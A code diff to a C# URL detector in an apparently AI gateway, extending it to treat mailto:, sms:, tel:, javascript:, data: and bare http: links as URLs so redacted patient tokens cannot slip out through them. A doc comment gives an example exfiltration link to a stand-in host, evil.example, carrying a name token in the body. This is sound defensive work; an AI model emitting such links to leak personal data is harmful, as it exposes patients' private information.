@@ -1,3 +1,5 @@
+using System.Collections.Frozen;
+
 namespace XefAI.Gateway.Pipeline.Invocation;
 
 /// <summary>
@@ -16,9 +18,24 @@ namespace XefAI.Gateway.Pipeline.Invocation;
 /// may hold them, and a query may hold two tokens (<c>?n=[NAME_1]&amp;d=[DATE_1]</c>). Text before the URL in the same
 /// run (<c>[[NAME_1]](https://x)</c>) is not in it.
 /// </para>
+/// <para>
+/// A URL also starts at one of <see cref="SchemesWithoutSlashes"/> followed by <c>:</c>, <c>//</c> or not: those a
+/// client follows or runs on a click without a host after <c>//</c> (<c>mailto:x@evil.example?body=[NAME_1]</c>,
+/// <c>sms:</c>, <c>tel:</c> with DTMF digits, <c>javascript:</c>, <c>data:</c>), and <c>http:</c>/<c>https:</c>,
+/// which a browser reads as <c>https://</c> without its slashes. Another word before a colon (<c>MRN:[MRN_1]</c>) is
+/// text, since clinical text is full of them.
+/// </para>
 /// </summary>
 internal static class UrlSpans
 {
+    /// <summary>Schemes whose URL starts at the colon, with or without <c>//</c> after it (compared ignoring case).</summary>
+    internal static readonly FrozenSet<string> SchemesWithoutSlashes = FrozenSet.Create(
+        StringComparer.OrdinalIgnoreCase,
+        "http", "https", "ftp", "ws", "wss", "mailto", "tel", "callto", "sms", "smsto", "mms", "javascript", "vbscript", "data");
+
+    private static readonly FrozenSet<string>.AlternateLookup<ReadOnlySpan<char>> SchemeLookup =
+        SchemesWithoutSlashes.GetAlternateLookup<ReadOnlySpan<char>>();
+
     /// <summary>The most characters of a run a stream keeps to find a URL begun in one delta and going on in the next.</summary>
     private const int TailLength = 32;
 
@@ -125,16 +142,38 @@ internal static class UrlSpans
         return spans;
     }
 
-    /// <summary>Whether the text holds anything a URL starts with: <c>//</c> or <c>www.</c>, or in JSON text an escape.</summary>
+    /// <summary>
+    /// Whether the text holds anything a URL starts with: <c>//</c>, <c>www.</c> or a listed scheme's colon, or in JSON
+    /// text an escape.
+    /// </summary>
     private static bool MayStartUrl(string text, bool json) =>
         text.Contains("//", StringComparison.Ordinal) || text.Contains("www.", StringComparison.OrdinalIgnoreCase)
-        || (json && text.Contains('\\', StringComparison.Ordinal));
+        || (json && text.Contains('\\', StringComparison.Ordinal)) || HasListedScheme(text);
+
+    private static bool HasListedScheme(string text)
+    {
+        for (var colon = text.IndexOf(':', StringComparison.Ordinal); colon >= 0; colon = colon + 1 < text.Length ? text.IndexOf(':', colon + 1) : -1)
+        {
+            var scheme = colon;
+            while (scheme > 0 && IsSchemeCharacter(text[scheme - 1]))
+            {
+                scheme--;
+            }
+
+            if (SchemeLookup.Contains(text.AsSpan(scheme, colon - scheme)))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
 
     /// <summary>Where a URL that position <paramref name="i"/> shows starts (before it, for a scheme); -1 when none does.</summary>
     private static int UrlStartsAt(char[] text, int i, int runStart, bool truncated)
     {
         var opens = i == runStart && !(truncated && i == 0);
-        if (text[i] == ':' && i + 2 < text.Length && text[i + 1] == '/' && text[i + 2] == '/')
+        if (text[i] == ':')
         {
             var scheme = i;
             while (scheme > runStart && IsSchemeCharacter(text[scheme - 1]))
@@ -142,7 +181,8 @@ internal static class UrlSpans
                 scheme--;
             }
 
-            return scheme < i ? scheme : -1;
+            var slashes = i + 2 < text.Length && text[i + 1] == '/' && text[i + 2] == '/';
+            return scheme < i && (slashes || SchemeLookup.Contains(text.AsSpan(scheme, i - scheme))) ? scheme : -1;
         }
 
         if (text[i] == '/' && i + 1 < text.Length && text[i + 1] == '/'
